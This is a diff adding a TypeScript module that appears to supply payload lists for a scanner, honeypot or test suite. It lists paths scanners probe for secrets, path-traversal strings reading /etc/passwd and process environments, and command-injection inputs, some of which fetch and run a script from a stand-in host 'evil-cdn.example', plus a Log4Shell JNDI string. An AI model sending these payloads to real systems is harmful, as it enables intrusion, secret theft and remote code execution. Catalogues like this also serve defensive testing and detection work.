@@ -1,0 +1,61 @@
+/** What scanners ask every server for, in the order of their lists. */
+export const WORDLIST = [
+  "/.env",
+  "/.git/config",
+  "/.git/HEAD",
+  "/.aws/credentials",
+  "/.svn/entries",
+  "/.DS_Store",
+  "/backup.zip",
+  "/backup.sql",
+  "/db.sql",
+  "/dump.sql.gz",
+  "/wp-login.php",
+  "/wp-admin/setup-config.php",
+  "/xmlrpc.php",
+  "/phpmyadmin/index.php",
+  "/pma/",
+  "/adminer.php",
+  "/manager/html",
+  "/actuator/env",
+  "/actuator/heapdump",
+  "/server-status",
+  "/solr/admin/cores",
+  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+  "/_ignition/execute-solution",
+  "/cgi-bin/luci",
+  "/HNAP1/",
+  "/admin/",
+  "/login",
+  "/api/swagger.json",
+  "/old/",
+  "/test/",
+  "/console",
+  "/config.json",
+  "/robots.txt",
+  "/sitemap.xml",
+] as const;
+
+/** Files of the system, through a parameter that names a file. */
+export const TRAVERSALS = [
+  "../../../../etc/passwd",
+  "....//....//....//etc/passwd",
+  "..%2f..%2f..%2fetc%2fpasswd",
+  "..\\..\\..\\windows\\win.ini",
+  "/etc/passwd",
+  "php://filter/convert.base64-encode/resource=index",
+  "../../../../proc/self/environ",
+  "../WEB-INF/web.xml",
+] as const;
+
+/** Commands through a parameter that reaches a shell. */
+export const COMMANDS = [
+  "127.0.0.1;id",
+  "127.0.0.1|whoami",
+  "x;cat /etc/passwd",
+  "$(id)",
+  "`uname -a`",
+  "x;curl http://203-0-113-9.evil-cdn.example/a.sh|sh",
+  "x&&wget http://evil-cdn.example/k -O /tmp/k",
+  "${jndi:ldap://evil-cdn.example:1389/a}",
+] as const;
